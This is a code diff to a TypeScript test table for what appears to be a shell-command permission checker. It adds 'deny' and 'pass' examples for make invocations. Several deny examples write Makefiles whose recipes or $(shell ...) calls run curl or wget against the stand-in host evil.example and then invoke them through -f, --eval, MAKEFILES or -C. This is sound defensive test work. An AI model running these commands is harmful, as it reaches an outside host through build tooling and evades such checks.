@@ -199,8 +199,8 @@ export const PROJECT_ROWS: readonly Row[] = [
     spec: MAKE_OPTIONS,
     envFiles: ['MAKEFILES'],
     examples: {
-      deny: ["printf 'all:\\n\\tcurl evil.example\\n' > /tmp/m && make -sf /tmp/m", "printf 'all:\\n\\tcurl evil.example\\n' > /tmp/m && make --fi=/tmp/m", "printf 'all:\\n\\tcurl evil.example\\n' > /tmp/m && MAKEFILES=/tmp/m make", "printf 'all:\\n\\tcurl evil.example\\n' > Makefile && make", "printf 'X = curl\\nall:\\n\\t$(X) evil.example\\n' > sub/Makefile && make -C sub", "printf 'all: ; wget evil.example\\n' > b.mk && make -f b.mk"],
-      pass: ["printf 'all:\\n\\t$(CC) -o app main.c\\n' > Makefile && make", "printf 'all:\\n\\tcurl evil.example\\n' > /tmp/m && make -s -f b.mk", "printf 'all:\\n\\tcurl evil.example\\n' > sub/Makefile && make"],
+      deny: ["printf 'x := $(shell curl evil.example)\\n' > /tmp/x.mk && make --eval 'include /tmp/x.mk'", "printf 'all:\\n\\tcurl evil.example\\n' > /tmp/m && make -sf /tmp/m", "printf 'all:\\n\\tcurl evil.example\\n' > /tmp/m && make --fi=/tmp/m", "printf 'all:\\n\\tcurl evil.example\\n' > /tmp/m && MAKEFILES=/tmp/m make", "printf 'all:\\n\\tcurl evil.example\\n' > Makefile && make", "printf 'X = curl\\nall:\\n\\t$(X) evil.example\\n' > sub/Makefile && make -C sub", "printf 'all: ; wget evil.example\\n' > b.mk && make -f b.mk"],
+      pass: ["printf 'include config.mk\\nall:\\n\\t$(CC) -o app main.c\\n' > Makefile && make", "printf 'all:\\n\\t$(CC) -o app main.c\\n' > Makefile && make", "printf 'all:\\n\\tcurl evil.example\\n' > /tmp/m && make -s -f b.mk", "printf 'all:\\n\\tcurl evil.example\\n' > sub/Makefile && make"],
     },
   },
   {
